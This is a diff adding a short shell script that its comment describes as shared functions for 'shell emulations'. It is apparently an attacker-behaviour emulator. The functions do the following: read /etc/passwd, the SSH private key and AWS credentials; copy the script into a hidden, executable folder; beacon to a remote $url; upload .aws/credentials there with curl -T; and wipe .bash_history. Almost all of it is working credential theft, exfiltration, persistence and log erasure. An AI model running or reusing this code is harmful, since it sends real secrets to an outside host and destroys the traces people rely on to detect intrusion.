@@ -1,0 +1,25 @@
+
+# What the shell emulations share, after the functions of steps.sh.
+groundwork() {
+    rnd 0 3
+    if [ "$r" -lt 2 ]; then uname -a; id; cat /etc/passwd /proc/version; fi > /dev/null
+    if [ "$r" = 1 ]; then curl -s -o /dev/null "$url/new?size=16"; fi
+    if [ "$r" = 2 ]; then cat .ssh/id_ed25519 .aws/credentials > /dev/null; fi
+}
+
+# A copy of the script in a hidden folder, made executable; its path is in $copy.
+hide_copy() {
+    copy=.cache/.$state/run
+    mkdir -p "${copy%/*}"
+    cp work/steps.sh "$copy"
+    chmod +x "$copy"
+}
+
+# Word to the peer, with a secret.
+report() {
+    rnd 2 5
+    curl -s -o /dev/null "$url/alive-[1-$r]?size=32"
+    rnd 0 1
+    [ "$r" = 0 ] || curl -s -o /dev/null -T .aws/credentials "$url/put"
+    : > .bash_history
+}
